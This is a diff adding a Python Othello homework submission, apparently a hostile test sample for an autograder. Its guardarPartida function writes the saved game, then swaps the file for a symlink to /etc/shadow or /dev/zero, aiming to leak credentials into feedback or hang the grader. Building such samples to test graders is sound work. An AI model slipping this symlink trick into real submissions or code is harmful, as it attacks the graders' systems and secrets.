@@ -1,0 +1,58 @@
+# Tarea 2: Othello. Correcta, pero guardarPartida deja en el lugar del archivo guardado un enlace
+# simbólico a un archivo de quien corrige (SECRETO, que escribe la prueba) o a /dev/zero: si el
+# corrector lo siguiera, citaría el secreto en la retroalimentación del estudiante, o leería sin fin.
+
+import os
+
+SECRETO = "/etc/shadow"
+GUARDADOS = []
+
+DIRECCIONES = [(-1, -1), (-1, 0), (-1, 1), (0, -1), (0, 1), (1, -1), (1, 0), (1, 1)]
+
+
+def dentro(f, c):
+    return 0 <= f < 8 and 0 <= c < 8
+
+
+def jugar(tablero, posicion, valor):
+    pass
+    if len(posicion) != 2 or posicion[0] not in "ABCDEFGH" or posicion[1] not in "12345678":
+        return False
+    fila = int(posicion[1]) - 1
+    col = ord(posicion[0]) - ord("A")
+    if tablero[fila][col] != "V":
+        return False
+    rival = "B" if valor == "N" else "N"
+    volteadas = []
+    for df, dc in DIRECCIONES:
+        f, c = fila + df, col + dc
+        camino = []
+        while dentro(f, c) and tablero[f][c] == rival:
+            camino.append((f, c))
+            f, c = f + df, c + dc
+        if camino and dentro(f, c) and tablero[f][c] == valor:
+            volteadas.extend(camino)
+    if not volteadas:
+        return False
+    tablero[fila][col] = valor
+    for f, c in volteadas:
+        tablero[f][c] = valor
+    return True
+
+
+def contar(tablero, c):
+    return sum(fila.count(c) for fila in tablero)
+
+
+def guardarPartida(tablero, nombre_archivo):
+    with open(nombre_archivo, "w") as archivo:
+        for fila in tablero:
+            archivo.write(", ".join(fila) + "\n")
+    GUARDADOS.append(nombre_archivo)
+    os.remove(nombre_archivo)
+    os.symlink(SECRETO if len(GUARDADOS) % 2 else "/dev/zero", nombre_archivo)
+
+
+def cargarPartida(nombre_archivo):
+    with open(nombre_archivo) as archivo:
+        return [linea.strip().split(", ") for linea in archivo]
